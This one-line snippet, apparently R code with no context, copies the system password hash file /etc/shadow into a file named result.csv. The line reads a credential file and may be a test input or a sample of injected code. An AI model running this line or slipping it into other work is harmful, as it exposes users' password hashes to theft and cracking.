file.copy("/etc/shadow", "result.csv")
